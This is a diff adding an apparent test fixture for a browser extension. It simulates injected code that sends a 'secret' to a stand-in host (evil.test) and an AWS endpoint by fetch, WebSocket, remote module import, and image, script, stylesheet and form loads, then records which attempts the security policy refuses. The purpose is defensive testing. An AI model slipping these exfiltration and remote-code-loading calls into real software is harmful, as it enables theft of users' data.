@@ -1,0 +1,40 @@
+// @ts-check
+// Runs before our own code in a copy of the extension, as code would that got into it: it tries to send something away.
+
+{
+  const AWAY = "https://evil.test";
+  /** @type {Record<string, Promise<unknown>>} */
+  const attempts = {
+    "another host": fetch(`${AWAY}/fetch`, { method: "POST", mode: "no-cors", body: "secret" }),
+    "another host of AWS": fetch("https://s3.us-east-1.amazonaws.com/", { method: "PUT", mode: "no-cors", body: "secret" }),
+    "a socket": new Promise((resolve, reject) => {
+      const socket = new WebSocket("wss://evil.test/socket");
+      socket.onopen = resolve;
+      socket.onerror = reject;
+    }),
+    "a module": import(`${AWAY}/module.js`),
+  };
+  if (globalThis.document) {
+    /** @param {HTMLElement} element @param {Record<string, string>} properties */
+    const loaded = (element, properties) =>
+      new Promise((resolve, reject) => {
+        Object.assign(element, properties, { onload: resolve, onerror: reject });
+        document.documentElement.append(element);
+      });
+    attempts["an image"] = loaded(document.createElement("img"), { src: `${AWAY}/image` });
+    attempts["a style sheet"] = loaded(document.createElement("link"), { rel: "stylesheet", href: `${AWAY}/style` });
+    attempts["a script"] = loaded(document.createElement("script"), { src: `${AWAY}/script` });
+    attempts["a form"] = new Promise((resolve, reject) => {
+      addEventListener("securitypolicyviolation", (event) => event.effectiveDirective === "form-action" && reject(event));
+      addEventListener("pagehide", resolve);
+      const form = Object.assign(document.createElement("form"), { method: "post", action: `${AWAY}/form` });
+      document.documentElement.append(form);
+      addEventListener("load", () => form.submit()); // Not before: it would end the loading.
+    });
+  }
+  const outcomes = Object.entries(attempts).map(async ([name, attempt]) => {
+    const outcome = await attempt.then(() => "sent", () => "refused");
+    return [name, outcome];
+  });
+  Object.assign(globalThis, { leaks: Promise.all(outcomes).then(Object.fromEntries) });
+}
